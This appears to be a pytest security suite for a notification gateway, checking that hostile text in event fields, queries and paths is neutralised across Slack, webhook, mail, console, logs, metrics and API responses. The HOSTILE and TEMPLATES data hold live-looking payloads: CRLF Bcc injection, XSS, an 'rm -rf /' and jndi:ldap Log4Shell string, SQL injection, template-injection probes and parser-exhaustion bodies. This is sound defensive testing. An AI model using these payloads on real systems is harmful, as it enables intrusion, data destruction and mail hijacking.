"""Hostile events by HTTP: in no field, on no way out, do they do anything; nothing in them is ever evaluated."""

from __future__ import annotations

import copy
import io
import json
import logging
import re
from collections.abc import Iterator
from contextlib import redirect_stdout
from typing import Any

import pytest

from gateway.channels.transport import Transport
from gateway.cli.logs import FieldFormatter
from gateway.testing import HttpSink, SmtpSink, answer

SLACK = "slack://T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ"
CHANNELS = """
[channel.slack]
url = "{slack}"
[channel.hook]
url = "json://{sink}/hook"
[channel.mail]
url = "mailto://{mail}?mode=insecure&from=gateway@example.com&to=ana@example.com"
[channel.screen]
url = "console://"
"""
HANDLERS = """
[[handler]]
name    = "all"
to      = ["box", "slack", "hook", "mail", "screen"]
title   = "{{ obj.name }} {{ flow.name }} {{ obj.run_id }} {{ event.source }} {{ event.id }}"
message = "{{ state.name }} {{ state.message }} {{ state.result | tojson }} {{ obj.tags | join(', ') }} {{ obj.url }}"
"""
HOSTILE = {
    "new lines": "x\r\nBcc: eve@evil.example\r\n\r\nbody\n2026-01-01 ERROR gateway: forged",
    "terminal": "x\x1b[2J\x1b]0;owned\x07\x1b[31mred\x08\x7f\x9b31m",
    "nothing": "x\0y\u200b\u202e",
    "mentions": "x <!channel> <@U1> @everyone @here",
    "markup": "x <script>alert(1)</script><img src=x onerror=y> [a](http://evil.example)",
    "shell": "x; rm -rf / $(id) `id` %s %n {0} ${jndi:ldap://evil.example/a}",
    "sql": "x'; DROP TABLE delivery; --",
    "metrics": 'x"} 1\nevil_metric{a="b',
    "huge": "x" * 900,
    "wide": "x\U0010ffff\ufeff\u2028\u2029\u0301" * 2,
}
TEMPLATES = (
    "{{ 7 * 191 }}",
    "{% for x in range(9) %}1337{% endfor %}",
    "{{ secret('HOME') }}",
    "{{ obj.__class__.__mro__ }}",
    "{{ ''.__class__ }}",
    "${7*191}",
    "#{7*191}",
    "<%= 7*191 %>",
    "{{ cycler.__init__.__globals__ }}",
)


@pytest.fixture
def slack() -> Iterator[HttpSink]:
    with HttpSink() as running:
        running.behaviour = answer(200, "ok")
        yield running


@pytest.fixture
def mail() -> Iterator[SmtpSink]:
    with SmtpSink() as running:
        yield running


@pytest.fixture
def everywhere(serve, slack, mail):
    """A gateway that tells of everything on every kind of channel."""
    transport = Transport(routes={"hooks.slack.com": slack.url})
    channels = CHANNELS.format(slack=SLACK, sink=slack.address, mail=mail.address)
    yield serve(handlers=HANDLERS, channels=channels, transport=transport)
    transport.close()


def filled_with(text: str, number: int = 0) -> dict[str, Any]:
    """An event with ``text`` wherever a text may be."""
    flow = {"name": text, "run_id": text, "run_name": text, "tags": [text], "labels": {text: text}, "url": text}
    state = {"name": text, "message": text, "result": {text: [text]}, "context": {text: text}}
    return {
        "id": f"{number}{text}"[:200],
        "source": text[:100],
        "obj": {"kind": "task", **flow, "parameters": {text: text}, "flow": flow},
        "old_state": {"type": "Running", **state},
        "new_state": {"type": "Failed", **state},
    }


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_in_every_field_does_nothing_on_any_way_out(
    everywhere, text, slack, mail, sent, caplog, until
) -> None:
    caplog.set_level(logging.DEBUG)
    screen = io.StringIO()
    with redirect_stdout(screen):
        taken = everywhere.post(filled_with(text))
        assert taken.status_code == 202, taken.text
        everywhere.gateway.drain(10)

    ledger = everywhere.client.get("/api/v1/ledger").json()["total"]
    assert (ledger["accepted"], ledger["delivered"]) == (5, 5), everywhere.client.get("/api/v1/deliveries").text
    [one] = mail.wait_for(1)
    assert_mail_is_as_meant(one)
    for request in slack.wait_for(2):
        arrived = json.loads(request.body)
        assert not re.search(r"<!|<@", json.dumps(arrived)) or request.path == "/hook"
        assert "evil" not in json.dumps(dict(request.headers))
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", screen.getvalue())
    assert_log_is_one_line_for_each_record(caplog.records)
    metrics = everywhere.client.get("/metrics").text
    assert "evil" not in metrics and text[:20] not in metrics
    assert_answers_are_json(everywhere)


def assert_mail_is_as_meant(mail) -> None:
    assert mail.recipients == ("ana@example.com",)
    assert mail.message["bcc"] is None
    assert mail.message["to"].addresses[0].addr_spec == "ana@example.com"
    assert not re.search(r"[\r\n]", str(mail.message["subject"]))


def assert_log_is_one_line_for_each_record(records) -> None:
    formatter = FieldFormatter("%(message)s")
    for record in records:
        if record.name.startswith("gateway"):
            told = formatter.format(record)
            assert "\n" not in told or record.exc_info, told
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", told), told


def assert_answers_are_json(serving) -> None:
    client = serving.client
    transitions = client.get("/api/v1/transitions")
    id = transitions.json()["transitions"][0]["id"]
    path = "".join(f"%{byte:02x}" for byte in id.encode())
    deliveries = client.get("/api/v1/deliveries")
    for told in (
        transitions,
        deliveries,
        client.get(f"/api/v1/transitions/{path}"),
        client.get(f"/api/v1/deliveries/{deliveries.json()['deliveries'][0]['id']}"),
    ):
        assert told.status_code == 200
        assert told.headers["content-type"] == "application/json"
        assert told.headers["x-content-type-options"] == "nosniff"
        assert told.json()


@pytest.mark.parametrize("text", [*HOSTILE.values(), "\ud800", "x" * 30_000], ids=[*HOSTILE, "half", "longer"])
def test_hostile_text_where_it_is_wrong_is_refused_in_words(serve, text) -> None:
    serving = serve()
    good = filled_with("x")
    for path in (("obj", "kind"), ("new_state", "type"), ("occurred_at",), ("obj", text), (text,)):
        event = copy.deepcopy(good)
        inner = event if len(path) == 1 else event[path[0]]
        inner[path[-1]] = text
        body = json.dumps(event).encode()

        for place in ("/api/v1/transitions", "/api/v1/explain"):
            answer = serving.client.post(place, content=body, headers={"content-type": "application/json"})

            assert answer.status_code in (400, 422)
            assert answer.headers["content-type"] == "application/problem+json"
            assert len(answer.content) < 10_000
            assert "Traceback" not in answer.text
    assert serving.gateway.store.counters()["transitions"] == 0


@pytest.mark.parametrize("text", ["x\r\ny: z", "\0", "\x1b[2J", "<script>", "'; DROP TABLE delivery; --", "../../etc"])
def test_hostile_text_in_query_and_path_does_nothing(serve, caplog, text) -> None:
    caplog.set_level(logging.DEBUG)
    client = serve().client
    encoded = "".join(f"%{byte:02x}" for byte in text.encode())

    for path in (
        f"/api/v1/deliveries?channel={encoded}",
        f"/api/v1/deliveries?{encoded}=1",
        f"/api/v1/transitions/{encoded}",
        f"/api/v1/deliveries/{encoded}",
        f"/{encoded}",
    ):
        answer = client.get(path)
        assert answer.status_code in (200, 404, 422)
        assert answer.headers["content-type"].startswith("application/")
        answer.json()
    assert_log_is_one_line_for_each_record(caplog.records)


def test_events_are_data_and_never_evaluated(serve, sent) -> None:
    serving = serve(handlers=HANDLERS.replace('"box", "slack", "hook", "mail", "screen"', '"box"'))
    for number, text in enumerate(TEMPLATES):
        event = filled_with(text, number)
        assert serving.post(event).status_code == 202
        [explained] = serving.client.post("/api/v1/explain", json=event).json()["handlers"]
        [message] = explained["messages"]
        serving.gateway.drain(10)

        for told in (f"{message['title']} {message['message']}", f"{sent.messages[-1].title} {sent.messages[-1].body}"):
            assert text in told
            assert "1337" not in told.replace(text, "")
        assert message["error"] == ""


@pytest.mark.parametrize("key", ["when", "message", "template", "handlers", "config", "__class__", "constructor"])
def test_no_request_brings_a_rule_or_a_template(serve, event, key) -> None:
    serving = serve()

    for path in ("/api/v1/transitions", "/api/v1/explain"):
        assert serving.client.post(path, json={**event(), key: "{{ 7 * 191 }}"}).status_code == 422
    assert serving.client.post("/api/v1/reload", json={key: "/etc/passwd"}).status_code == 422


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 1_000_000,
        b'{"obj":' * 200_000,
        b'{"obj":{"kind":"task","name":"x"},"new_state":' + b'{"type":"Queued","state":' * 300 + b"1" + b"}" * 301,
        b"[" + b"{}," * 9_999 + b"{}]",
        b"[" + b",".join([b"[]"] * 1_000_000) + b"]",
        b'{"obj":{"kind":"flow","name":"x","parameters":'
        + b'{"a":' * 190
        + b"1"
        + b"}" * 190
        + b'},"new_state":{"type":"X"}}',
        b'{"new_state":{"result":' + b"9" * 100_000 + b"}}",
        b"\xff\xfe" * 1000,
        b'{"' + b"k" * 1_000_000 + b'":1}',
    ],
    ids=[
        "deep lists",
        "deep objects",
        "deep states",
        "many empty",
        "very many",
        "deep parameters",
        "a long number",
        "not UTF-8",
        "a long key",
    ],
)
def test_what_is_made_to_exhaust_a_parser_is_refused_quickly_and_briefly(serve, body) -> None:
    serving = serve()

    answer = serving.client.post("/api/v1/transitions", content=body, headers={"content-type": "application/json"})

    assert answer.status_code in (400, 413, 422)
    assert len(answer.content) < 2_000_000
    assert answer.elapsed.total_seconds() < 10
    assert serving.client.get("/livez").status_code == 200


def test_states_in_states_are_kept_as_deep_as_they_may_be(serve, event) -> None:
    serving = serve()
    state: dict[str, Any] = {"type": "Queued"}
    for _ in range(150):
        state = {"type": "Queued", "state": state}

    assert serving.post(event(id="deep", state=state)).status_code == 202
    assert serving.client.get("/api/v1/transitions/deep").status_code == 200
